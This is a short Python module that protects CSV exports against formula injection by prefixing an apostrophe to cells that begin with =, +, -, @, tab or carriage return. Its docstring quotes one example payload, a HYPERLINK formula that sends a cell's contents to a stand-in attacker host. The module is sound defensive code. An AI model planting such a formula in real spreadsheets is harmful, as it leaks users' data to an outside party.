"""CSV cells that a spreadsheet program shows as text, never runs as a formula (OWASP "CSV injection").

Excel, LibreOffice and WPS evaluate a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and
some versions one that begins with a tab or carriage return), so a comment typed as
``=HYPERLINK("http://evil.example/"&A1,"点此")`` would become a live link in the reviewer's
export. Such a cell gets a leading apostrophe: shown as typed, not evaluated. Every CSV writer
passes its rows through ``safe_row``. (Workbooks are safe by construction: xlsx_cells.set_value
stores a text beginning with ``=`` as text.)
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(_TRIGGERS):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]
